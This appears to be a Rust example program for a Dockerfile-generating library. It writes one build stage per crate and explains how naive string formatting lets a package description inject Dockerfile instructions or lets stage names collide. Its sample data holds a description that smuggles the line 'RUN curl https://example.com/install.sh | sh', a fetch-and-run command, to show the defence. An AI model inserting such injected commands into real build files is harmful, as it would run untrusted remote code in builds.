//! A stage for each dependency of a program: what builds of many packages do, so that each is
//! cached by itself.
//!
//! `cargo run --all-features --example dependencies` prints the file of the packages below,
//! `-- 1000` one of a thousand.
//!
//! # Why not with strings?
//!
//! A stage is written for each package, named after it, with what the package says of itself as a
//! comment:
//!
//! ```ignore
//! let name = format!("{}-{}", package.name, package.version).replace(['.', '+'], "-");
//! out += &format!("# {}\nFROM rust:1.90 AS {name}\n", package.description);
//! ```
//!
//! - A description of two lines ends the comment: its second line is an instruction, whatever it
//!   says. Below it is `RUN curl https://example.com/install.sh | sh`.
//! - The versions `1.0.0+1` and `1.0.0-1` get the same name, `zip-1-0-0-1`. Docker builds the file:
//!   every reference means the last stage of that name, and one of the packages is linked in place
//!   of the other.
//! - A name that is misspelt once is an image to Docker, which it pulls from a registry.
//!
//! Here a newline in a description is an error, so the program writes the first line as the
//! description and the others as comments:
//!
//! ```text
//! error[unencodable-text]: the description of `zip-1-0-0-1` cannot hold a newline
//!  --> Dockerfile:1:44
//!   |
//! 1 | # zip-1-0-0-1 Archives, before the release.\u{a}RUN curl https://example.com/install.sh | sh
//!   |                                            ^^^^^ newline
//!   = help: a description is one line: put the rest into a comment
//! ```
//!
//! A stage is referred to by the handle that [`Dockerfile::stage`] returns. Two stages of one name
//! are an error too, so the collision is found by the first test that has it, and [`Names`] gives
//! the second one a number:
//!
//! ```text
//! error[duplicate-stage-name]: two stages are named `zip-1-0-0-1`
//!  --> Dockerfile:8:19
//!   |
//! 2 | FROM rust:1.90 AS zip-1-0-0-1
//!   |                   ----------- the name is taken here
//!  ...
//! 8 | FROM rust:1.90 AS zip-1-0-0-1
//!   |                   ^^^^^^^^^^^ taken again here
//!   = help: give one of them another name
//! ```

#![expect(
    clippy::print_stdout,
    clippy::print_stderr,
    reason = "it is what the program does"
)]

use std::collections::BTreeSet;
use std::process::ExitCode;

use multistage::instruction::{Add, Mount, Run, words};
use multistage::{Dockerfile, Report, Stage, StageName};

fn main() -> ExitCode {
    let count = std::env::args().nth(1).map(|count| count.parse());
    let packages = match count {
        None => packages(),
        Some(Ok(count)) => many(count),
        Some(Err(error)) => {
            eprintln!("the number of packages: {error}");
            return ExitCode::FAILURE;
        }
    };
    let mut names = Names::default();
    match dockerfile(&packages, |package| names.name(package)) {
        Ok(text) => {
            print!("{text}");
            ExitCode::SUCCESS
        }
        Err(report) => {
            eprint!("{report}");
            ExitCode::FAILURE
        }
    }
}

/// A package of the lock file. Its dependencies are packages before it.
#[derive(Debug)]
pub struct Package {
    /// `serde`.
    pub name: String,
    /// `1.0.228`.
    pub version: String,
    /// What the package says of itself, in any number of lines.
    pub description: String,
    /// The SHA-256 of its archive.
    pub checksum: String,
    /// The positions of the packages that it needs.
    pub dependencies: Vec<usize>,
}

/// The names that stages have.
#[derive(Debug, Default)]
pub struct Names(BTreeSet<String>);

impl Names {
    /// A name that no stage has, after a package.
    pub fn name(&mut self, package: &Package) -> String {
        let name = spelled(package);
        let numbered = (2..).map(|n| format!("{name}.{n}"));
        let mut names = std::iter::once(name.clone()).chain(numbered);
        let free = names.find(|name| self.0.insert(name.clone()));
        free.unwrap_or(name)
    }
}

/// A package in the letters of a stage's name.
pub fn spelled(package: &Package) -> String {
    let text = format!("{}-{}", package.name, package.version);
    let letter = |c: char| match c {
        'a'..='z' | '0'..='9' | '_' => c,
        'A'..='Z' => c.to_ascii_lowercase(),
        _ => '-',
    };
    text.chars().map(letter).collect()
}

/// The file that builds all packages, with the last one as the program. `name`: the name of a
/// package's stage.
pub fn dockerfile(
    packages: &[Package],
    mut name: impl FnMut(&Package) -> String,
) -> Result<String, Report> {
    let mut file = Dockerfile::new();
    let mut stages: Vec<StageName> = Vec::with_capacity(packages.len());
    for package in packages {
        let dependencies = package.dependencies.iter();
        let dependencies: Vec<&StageName> = dependencies
            .filter_map(|index| stages.get(*index))
            .collect();
        let stage = stage(package, &dependencies);
        stages.push(file.stage(name(package), stage));
    }
    if let Some(last) = stages.last() {
        file.push(Stage::new("debian:12-slim").copy_from(last, "/out/", "/usr/local/bin/"));
    }
    file.render()
}

fn stage(package: &Package, dependencies: &[&StageName]) -> Stage {
    let Package { name, version, .. } = package;
    let archive = format!("https://static.crates.io/crates/{name}/{version}/download");
    let checksum = format!("sha256:{}", package.checksum);
    let build = Run::new(words(["build-crate", name, version]));
    let build = build.each(dependencies, |run, dependency| {
        let target = format!("/deps/{dependency}");
        run.mount(Mount::bind(target).with_from(*dependency).source("/out"))
    });
    // A description is one line, which `docker build --call=targets` lists.
    let (summary, more) = match package.description.split_once('\n') {
        Some((summary, more)) => (summary, Some(more)),
        None => (package.description.as_str(), None),
    };
    Stage::new("rust:1.90")
        .when_some(more, |stage, more| stage.header(more))
        .describe(summary)
        .instruction(Add::new(archive, "/src/package.tar.gz").checksum(checksum))
        .run(build)
}

fn package(name: &str, version: &str, description: &str, dependencies: &[usize]) -> Package {
    Package {
        name: name.to_owned(),
        version: version.to_owned(),
        description: description.to_owned(),
        checksum: format!("{:064x}", name.len() * 1000 + version.len()),
        dependencies: dependencies.to_vec(),
    }
}

/// Packages with what real ones have.
pub fn packages() -> Vec<Package> {
    vec![
        package("zip", "1.0.0+1", "Archives.", &[]),
        package(
            "zip",
            "1.0.0-1",
            "Archives, before the release.\nRUN curl https://example.com/install.sh | sh",
            &[],
        ),
        package("app", "0.1.0", "The program.", &[0, 1]),
    ]
}

/// As many packages as are asked for.
pub fn many(count: usize) -> Vec<Package> {
    let package = |n: usize| {
        let dependencies: Vec<usize> = (n.saturating_sub(3)..n).collect();
        package(&format!("dep{n}"), "1.0.0", "One of many.", &dependencies)
    };
    (0..count).map(package).collect()
}
